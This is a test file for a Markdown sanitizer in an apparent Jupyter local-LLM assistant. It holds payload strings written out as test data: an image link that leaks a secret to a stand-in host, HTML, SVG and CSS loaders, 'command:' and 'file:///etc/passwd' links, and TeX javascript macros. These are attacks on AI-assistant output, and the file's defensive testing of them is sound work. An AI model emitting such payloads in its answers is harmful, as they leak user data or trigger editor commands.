"""Model text as Markdown: nothing loads, nothing clicks, and code stays as it was written."""

from __future__ import annotations

import html
from typing import Any

import mistune
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from jupyter_localllm.assistant.safe_markdown import safe_markdown

#: Pieces whose combinations find the seams between Markdown's rules.
PIECES = [
    "\n", "\n\n", "  ", "    ", "\t", "`", "``", "```", "````", "~~~", "```py\n", "\n```\n",
    "\n   ```\n", "\n    ```\n", "- ", "1. ", "> ", "# ", "|", "\n|-|-|\n", "$", "$$", "\\", "a",
    "text ", "[a]: u '", "'", "[", "]", "(u)", "![x](http://h.invalid/i)", "<img src=//h>",
    "<b>", "<!--", "-->", "\\[", "\\]", "\\(", "\\)", "\\\\(", "\\begin{x}", "\\end{x}",
    "---\n", "===\n", "*", "&", "(command:x)", "]: command:x\n", ":", "(",
]  # fmt: skip


def loading_tokens(markdown: str) -> list[dict[str, Any]]:
    """Return what a Markdown parser would draw as an image or pass through as HTML."""
    parse = mistune.create_markdown(renderer=None, plugins=["table", "url", "strikethrough"])
    found: list[dict[str, Any]] = []

    def walk(tokens: Any) -> None:
        for token in tokens:
            if token["type"] in ("image", "inline_html", "block_html"):
                found.append(token)
            walk(token.get("children") or [])

    walk(parse(markdown))
    return found


def cut_anywhere(text: str) -> list[str]:
    return [text[:end] for end in range(len(text) + 1)]


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=16).map("".join))
@example("- a\n  ```\nfoo ![x](http://h.invalid/i)")
@example("foo\n    ```\n    ![x](http://h.invalid/i)")
@example("foo\n    ```\n    x ``` ![a](http://h.invalid/i)\n    ```")
@example("a `\n- b ` ` ![x](http://h.invalid/i) `")
@example("|a|b|\n|-|-|\n|` | ![x](http://h.invalid/i) `|")
@example("```\n     ```\n```\n![x](http://h.invalid/i)")
def test_no_parser_finds_an_image_html_or_a_command(text: str) -> None:
    safe = safe_markdown(text).text
    assert loading_tokens(safe) == []
    assert "command" not in schemes_of_links(safe)


ATTACKS = [
    "![a](http://h.invalid/?q=secret)",
    "![a][r]\n\n[r]: http://h.invalid/i.png",
    "![r]\n\n[r]: //h.invalid/i.png",
    "<img src=http://h.invalid/i.png>",
    "<IMG\nSRC=http://h.invalid>",
    "<div style='background:url(http://h.invalid)'>x</div>",
    "<button data-commandlinker-command='terminal:create-new'>Click</button>",
    "<svg><image href='http://h.invalid'/></svg>",
    "<!-- x --><iframe src=//h.invalid></iframe>",
    "| a | b |\n|---|---|\n| ` | <img src=//h> ` |",
    "> ```\n<img src=//h>",
    "- item\n  ```\n<img src=//h>",
    "```\ncode\n``` \n```\n<img src=//h>",
    "$$\n```\n$$\n<img src=//h>",
    "[a]: u '\n```\n'\n<img src=//h>",
    "\\`<img src=//h>\\`",
    "<details><summary>x</summary>![y](//h)</details>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_text_also_half_streamed(text: str) -> None:
    for part in cut_anywhere(text):
        assert loading_tokens(safe_markdown(part).text) == [], part


def test_the_check_itself_sees_what_is_unsafe() -> None:
    assert all(loading_tokens(text) for text in ATTACKS[:9])


@pytest.mark.parametrize(
    "macro",
    [
        "\\href{javascript:alert(1)}{x}",
        "\\style{background:url(//h)}{x}",
        "\\class{a}{b}",
        "\\unicode[x;background:url(//h)]{65}",
        "\\mmlToken{mglyph}[src=//h]{}",
        "\\def\\alpha{x}",
        "\\newcommand{\\alpha}{x}",
        "\\Newextarrow{\\alpha}{5,5}{0x21C0}",
    ],
)
def test_tex_commands_with_addresses_or_css_are_broken(macro: str) -> None:
    safe = safe_markdown(f"Look: ${macro}$ and \\let\\y={macro}").text
    assert macro.partition("{")[0] not in safe


LINKS = [
    "[x](command:workbench.action.quit)",
    "[x]( command:a)",
    "[x](\ncommand:a)",
    "[x](<command:a>)",
    "[x](COMMAND:a 'title')",
    "[`x`](command:a)",
    "[x](command&colon;a)",
    "[x](&#99;ommand:a)",
    "[x](command\\:a)",
    "[x](vscode://extension/a)",
    "[x](file:///etc/passwd)",
    "[x](httpsx:a)",
    "[x]\n\n[x]: command:a",
    "[x]\n\n[x]: command:a 'title'",
    "[x]\n\n[x]:\ncommand:a",
    "[x]\n\n[x]: <command:a>",
    "[x]\n\n> [x]: command:a",
    "[x][^1]\n\n[^1]: command:a",
    "- ```x\n[x](command:a)",
    "$x\n\n[x](command:a)",
    "<command:a>",
]


def schemes_of_links(markdown: str) -> set[str]:
    """Return where the links go for a parser, by scheme."""
    parse = mistune.create_markdown(renderer=None, plugins=["table", "url", "footnotes"])
    found: set[str] = set()

    def walk(tokens: Any) -> None:
        for token in tokens:
            if token["type"] == "link":
                url = html.unescape(token["attrs"]["url"])
                found.add(url.partition(":")[0].lower() if ":" in url else "")
            walk(token.get("children") or [])

    walk(parse(markdown))
    return found


@pytest.mark.parametrize("text", LINKS)
def test_no_link_runs_a_command(text: str) -> None:
    for part in cut_anywhere(text):
        assert schemes_of_links(safe_markdown(part).text) <= {"http", "https", "mailto", ""}, part


def test_the_check_of_links_sees_them() -> None:
    assert schemes_of_links(LINKS[0]) == {"command"}
    assert schemes_of_links(LINKS[12]) == {"command"}


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://example.org/x:y?q=a:b) and [b](HTTP://example.org 'c: d')",
        "[mail](mailto:a@example.org), [near](notes/a:b.md), [here](#part:2), [c](a.md)",
        "Call `f`[0](x, y) or g[1](2). See [1]: it is there. Is a[0]: 7 right?",
        "[r][1] and [s]\n\n[1]: https://example.org\n[s]: ./file.md 'A title'",
    ],
)
def test_links_to_the_web_and_nearby_stay(text: str) -> None:
    assert safe_markdown(text).text == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (r"So \(a^2\) and \( b \).", "So $a^2$ and $b$."),
        ("Thus\n\\[\n\\sum_{k=1}^n k\n\\]\nholds.", "Thus\n$$\n\\sum_{k=1}^n k\n$$\nholds."),
        (r"\[ f(x) = \left( x \right] \]", r"$$ f(x) = \left( x \right] $$"),
        (r"\( \href{u}{x} \)", r"$\ href{u}{x}$"),
        # Not a formula, not surely one, or not ended yet.
        (r"an array \[1, 2", r"an array \[1, 2"),
        (r"\\(a\\)", r"\\(a\\)"),
        (r"`\(a\)`", r"`\(a\)`"),
        (r"it costs $5, \(a\)", r"it costs $5, \(a\)"),
        ("```\n\\(a\\)\n```", "```\n\\(a\\)\n```"),
    ],
)
def test_formulas_get_the_marks_that_front_ends_know(text: str, shown: str) -> None:
    assert safe_markdown(text).text == shown


@pytest.mark.parametrize("sign", ["&bsol;", "&#92;", "&#0092;", "&#x5C;", "&#X5c"])
def test_entities_do_not_begin_a_formula(sign: str) -> None:
    text = f"{sign}({sign}mmlToken{{mglyph}}[src=//h]{{}}{sign})"
    assert html.unescape(safe_markdown(text).text) == html.unescape(text.replace("&", "&amp;"))
    assert "&amp;#36;x&amp;dollar;" in safe_markdown("&#36;x&dollar;").text


@pytest.mark.parametrize(
    "text",
    [
        "Plain *text* with a [link](https://example.org), x < y and a & b.",
        "```html\n<img src='cat.png' alt='![x](y)'>\n```\n\nDone.",
        "Use `<div>` and `![alt](url)` here.\nAnd ``a ` <b>`` there.",
        "1. First:\n\n   ```cpp\n   #include <vector>\n\n   a<b>c;\n   ```\n\n2. Then.",
        "~~~\n<p>\n~~~\n",
        "Inline $e^{i\\pi} = -1$ and\n\n$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$\n\n**Done.**",
        "It costs $5.\n\n```c\n#include <stdio.h>\n```\n",
        "# Title\n\n| a | b |\n|---|---|\n| `x` | 1 |\n",
        "vec![1, 2] is fine in `vec![1, 2]`"[17:],
        "```python\nprint('`<b>`')\n\n  ```\n"[:30],
        "",
    ],
)
def test_ordinary_answers_are_not_touched(text: str) -> None:
    assert safe_markdown(text).text == text


def test_html_and_images_stay_readable() -> None:
    assert safe_markdown("Use <b> now").text == "Use &lt;b> now"
    assert safe_markdown("![cat](c.png)").text == "&#33;[cat](c.png)"
    assert safe_markdown("so $a<b$, $$\nx<y\n$$\n").text == "so $a< b$, $$\nx< y\n$$\n"


def test_an_open_fence_is_reported_so_that_a_note_is_not_code() -> None:
    assert safe_markdown("x\n\n```py\nprint(1)").open_fence == "```"
    assert safe_markdown("~~~~\nx\n").open_fence == "~~~~"
    assert safe_markdown("```py\nprint(1)\n```\n").open_fence == ""
    assert safe_markdown("```py\nprint(1)\n``").open_fence == "```"
